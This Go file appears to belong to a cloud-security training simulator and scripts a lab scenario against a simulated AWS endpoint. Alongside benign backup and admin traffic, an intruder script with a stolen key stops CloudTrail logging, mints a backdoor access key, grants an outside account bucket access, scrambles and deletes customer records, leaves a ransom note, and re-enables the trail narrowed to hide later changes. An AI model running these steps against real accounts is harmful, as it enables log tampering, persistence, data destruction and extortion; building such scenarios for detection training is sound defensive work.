// Package actors is Blind the Watchers' scripted traffic: the backup
// job and the operations admin who use the account every day, and an
// intruder with the backup job's over-privileged key who blinds the
// trail, leaves two ways back in, takes the customer records and deletes
// them, then switches the trail back on, narrowed to object events, so
// that its status looks healthy while no key or policy change reaches it.
package actors

import (
	"context"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"net/url"
	"time"

	"github.com/sakimori/sakimori/sim/aws/client"
	"github.com/sakimori/sakimori/sim/labkit"
)

func init() {
	labkit.RegisterScript("blind-backup", blindBackup)
	labkit.RegisterScript("blind-ops", blindOps)
	labkit.RegisterScript("blind-intruder", blindIntruder)
}

// Records is the bucket the story is about.
const records = "acme-customer-records"

const trailTarget = "com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101."

func keyed(env labkit.Env, prefix, agent string) *client.Client {
	return &client.Client{Endpoint: env("CLOUD"), UserAgent: agent,
		Creds: &client.Credentials{AccessKeyID: env(prefix + "_ACCESS_KEY_ID"), SecretAccessKey: env(prefix + "_SECRET_ACCESS_KEY")}}
}

// blindBackup is the nightly backup tool, run every two minutes here: it
// lists the records and reads the customer list, from its own address.
func blindBackup(ctx context.Context, env labkit.Env) error {
	c := keyed(env, "BACKUP", "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/s3#1.58.2")
	for wait := 20 * time.Second; labkit.Sleep(ctx, wait); wait = 2 * time.Minute {
		keys, err := list(c, records)
		if err != nil {
			labkit.Logger.Info("backup: list failed", "err", err)
		}
		for _, k := range keys {
			_, _ = c.S3("HEAD", "/"+records+"/"+k, nil)
		}
	}
	return nil
}

// blindOps is the operations admin: at the start of the day they add
// object-level logging for the records bucket to the trail (a change to
// the event selectors that keeps every management event), let the
// organisation's backup vault, an account of its own, read the records,
// and then look at the trail's health now and then.
func blindOps(ctx context.Context, env labkit.Env) error {
	c := keyed(env, "OPS", "aws-cli/2.15.30 Python/3.11.8 Darwin/23.3.0 exe/x86_64 prompt/off")
	if !labkit.Sleep(ctx, 2*time.Second) {
		return nil
	}
	selectors := map[string]any{"TrailName": "management-events", "EventSelectors": []map[string]any{{
		"ReadWriteType": "All", "IncludeManagementEvents": true,
		"DataResources": []map[string]any{{"Type": "AWS::S3::Object", "Values": []string{"arn:aws:s3"}}}}}}
	for {
		if res, err := c.JSON("cloudtrail", trailTarget+"PutEventSelectors", selectors); err == nil && res.OK() {
			break
		}
		if !labkit.Sleep(ctx, 3*time.Second) { // the cloud may still be starting
			return nil
		}
	}
	vault := map[string]any{"Sid": "OrgBackupVault", "Effect": "Allow",
		"Principal": map[string]any{"AWS": "arn:aws:iam::" + vaultAccount + ":role/org-backup-vault"},
		"Action":    []string{"s3:GetObject", "s3:GetObjectVersion", "s3:ListBucket"},
		"Resource":  []string{"arn:aws:s3:::" + records, "arn:aws:s3:::" + records + "/*"}}
	if err := addStatement(c, vault); err != nil {
		labkit.Logger.Info("ops: the vault's grant failed", "err", err)
	}
	for {
		_, _ = c.JSON("cloudtrail", trailTarget+"DescribeTrails", map[string]any{})
		_, _ = c.JSON("cloudtrail", trailTarget+"GetTrailStatus", map[string]string{"Name": "management-events"})
		_, _ = c.S3("GET", "/", nil)
		if !labkit.Sleep(ctx, 5*time.Minute) {
			return nil
		}
	}
}

func blindIntruder(ctx context.Context, env labkit.Env) error {
	in := &intrusion{c: keyed(env, "STOLEN", "aws-cli/2.13.25 Python/3.11.5 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023 prompt/off")}
	steps := in.steps()
	next := 0
	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 5*time.Second), time.Hour, func() error {
		// Each step is done once: a run that fails (the cloud still
		// starting) resumes where it stopped rather than starting over.
		for next < len(steps) {
			if err := steps[next](); err != nil {
				return err
			}
			next++
			labkit.Sleep(ctx, 2*time.Second) // the pause of someone typing
		}
		return nil
	})
	return nil
}

// outsideAccount is the intruder's own account, which the bucket policy
// lets in.
const outsideAccount = "739215604118"

// intrusion is the intruder's session with the stolen key.
type intrusion struct {
	c       *client.Client
	keys    []string // the records it found
	deleted int      // how many of them it has deleted
}

func ok(res client.Result, err error) error {
	if err != nil {
		return err
	}
	if !res.OK() {
		return fmt.Errorf("%s: %s", res, res.Body)
	}
	return nil
}

// steps are the intrusion in order.
func (in *intrusion) steps() []func() error {
	c := in.c
	trailCall := func(action string, body any) func() error {
		return func() error { return ok(c.JSON("cloudtrail", trailTarget+action, body)) }
	}
	return []func() error{
		// Who am I, and who is watching?
		func() error {
			if err := ok(c.Query("sts", "GetCallerIdentity", nil)); err != nil {
				return err
			}
			_, _ = c.JSON("cloudtrail", trailTarget+"DescribeTrails", map[string]any{})
			_, _ = c.JSON("cloudtrail", trailTarget+"GetTrailStatus", map[string]string{"Name": "management-events"})
			return nil
		},
		// 1. Blind the trail.
		trailCall("StopLogging", map[string]string{"Name": "management-events"}),
		// 2. A second key for an admin, a way back in if this one is revoked.
		in.backdoorKey,
		// 3. The bucket lets the intruder's own account in.
		func() error { return grantOutside(c) },
		// 4. Copy everything out, overwrite each object with its
		// "encrypted" form, then delete it, and leave a note. The versions
		// stay behind: the old ones, and the intruder's own on top.
		in.copyAndScramble,
		in.deleteAll,
		func() error {
			return ok(c.S3("PUT", "/"+records+"/README-RESTORE-YOUR-DATA.txt", []byte(ransomNote)))
		},
		// 5. Switch the trail back on, so its status looks as it should,
		// but first let it take object reads and writes only: files keep
		// arriving, and the next key or policy change is in none of them.
		trailCall("PutEventSelectors", map[string]any{"TrailName": "management-events",
			"EventSelectors": []map[string]any{{"ReadWriteType": "All", "IncludeManagementEvents": false,
				"DataResources": []map[string]any{{"Type": "AWS::S3::Object", "Values": []string{"arn:aws:s3"}}}}}}),
		trailCall("StartLogging", map[string]string{"Name": "management-events"}),
	}
}

func (in *intrusion) backdoorKey() error {
	_, _ = in.c.Query("iam", "ListUsers", nil)
	made, err := in.c.Query("iam", "CreateAccessKey", url.Values{"UserName": {"ops-admin"}})
	if err := ok(made, err); err != nil {
		return err
	}
	var key struct {
		ID     string `xml:"CreateAccessKeyResult>AccessKey>AccessKeyId"`
		Secret string `xml:"CreateAccessKeyResult>AccessKey>SecretAccessKey"`
	}
	if xml.Unmarshal(made.Body, &key) == nil && key.ID != "" {
		back := &client.Client{Endpoint: in.c.Endpoint, UserAgent: in.c.UserAgent, Creds: &client.Credentials{AccessKeyID: key.ID, SecretAccessKey: key.Secret}}
		_, _ = back.Query("sts", "GetCallerIdentity", nil)
	}
	return nil
}

func (in *intrusion) copyAndScramble() error {
	keys, err := list(in.c, records)
	if err != nil {
		return err
	}
	in.keys = keys
	for _, k := range keys {
		res, err := in.c.S3("GET", "/"+records+"/"+k, nil)
		if err != nil || !res.OK() {
			continue
		}
		_, _ = in.c.S3("PUT", "/"+records+"/"+k, scramble(res.Body))
	}
	return nil
}

func (in *intrusion) deleteAll() error {
	for ; in.deleted < len(in.keys); in.deleted++ {
		if err := ok(in.c.S3("DELETE", "/"+records+"/"+in.keys[in.deleted], nil)); err != nil {
			return err
		}
	}
	return nil
}

// scramble is what the intruder's "encryption" leaves: bytes that are
// not the record, the same length, under a header naming the ransom id.
func scramble(b []byte) []byte {
	out := append([]byte("ACME-7F3K-2291\n"), b...)
	for i := 15; i < len(out); i++ {
		out[i] ^= 0x5a
	}
	return out
}

// vaultAccount is the organisation's own backup account, which the ops
// admin lets read the records: an outside account the organisation trusts.
const vaultAccount = "380219475601"

// grantOutside adds a statement to the records bucket's policy that lets
// the intruder's account read and list it, keeping what was there.
func grantOutside(c *client.Client) error {
	return addStatement(c, map[string]any{
		"Sid": "CrossAccountReplication", "Effect": "Allow",
		"Principal": map[string]any{"AWS": "arn:aws:iam::" + outsideAccount + ":root"},
		"Action":    []string{"s3:GetObject", "s3:GetObjectVersion", "s3:ListBucket", "s3:ListBucketVersions"},
		"Resource":  []string{"arn:aws:s3:::" + records, "arn:aws:s3:::" + records + "/*"},
	})
}

// addStatement adds a statement to the records bucket's policy, keeping
// what is there: the ops admin and the intruder each read it first, so
// the later of the two keeps the earlier one's statement.
func addStatement(c *client.Client, statement map[string]any) error {
	var doc struct {
		Version   string           `json:"Version"`
		Statement []map[string]any `json:"Statement"`
	}
	doc.Version = "2012-10-17"
	if res, err := c.S3("GET", "/"+records+"?policy", nil); err == nil && res.OK() {
		_ = json.Unmarshal(res.Body, &doc)
	}
	doc.Statement = append(doc.Statement, statement)
	body, _ := json.Marshal(doc)
	res, err := c.S3("PUT", "/"+records+"?policy", body)
	if err != nil {
		return err
	}
	if !res.OK() {
		return fmt.Errorf("PutBucketPolicy: %s", res)
	}
	return nil
}

// list names a bucket's current objects.
func list(c *client.Client, bucket string) ([]string, error) {
	res, err := c.S3("GET", "/"+bucket+"?list-type=2", nil)
	if err != nil {
		return nil, err
	}
	if !res.OK() {
		return nil, fmt.Errorf("ListObjectsV2 %s: %s", bucket, res)
	}
	var out struct {
		Keys []string `xml:"Contents>Key"`
	}
	if err := xml.Unmarshal(res.Body, &out); err != nil {
		return nil, err
	}
	return out.Keys, nil
}

const ransomNote = `YOUR DATA HAS BEEN COPIED AND DELETED.

We hold a full copy of acme-customer-records. To get it back, and to keep
it off the leak sites, contact restore-acme@onionmail.example within 72
hours with your ID: ACME-7F3K-2291. Do not contact the police. Do not try
to restore the files yourself or the price doubles.
`
